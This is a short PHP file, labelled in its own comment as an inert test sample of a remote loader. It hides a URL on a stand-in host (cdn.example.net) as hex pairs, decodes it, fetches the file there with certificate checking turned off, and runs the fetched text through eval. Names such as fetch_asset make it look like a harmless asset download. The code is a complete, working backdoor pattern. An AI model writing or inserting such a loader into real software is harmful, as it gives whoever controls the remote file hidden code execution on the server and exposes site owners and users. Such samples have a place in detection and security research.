<?php
/* Remote loader: the URL is kept as hex pairs, decoded two digits at a time and the fetched text
   run as PHP (eval of "?>" . content). Inert test sample. */
$asset_ref = '68747470733a2f2f63646e2e6578616d706c652e6e65742f6173736574732f70616e656c2e747874';
function asset_url($ref)
{
    $out = '';
    for ($n = 0; $n < strlen($ref); $n = $n + 2) {
        $out .= chr(hexdec(substr($ref, $n, 2)));
    }
    return $out;
}
function fetch_asset($u)
{
    $h = curl_init();
    curl_setopt($h, CURLOPT_URL, $u);
    curl_setopt($h, CURLOPT_RETURNTRANSFER, 1);
    curl_setopt($h, CURLOPT_SSL_VERIFYPEER, false);
    $body = curl_exec($h);
    curl_close($h);
    return $body;
}
$code = fetch_asset(asset_url($asset_ref));
if ($code !== false) {
    eval("?>" . $code);
}
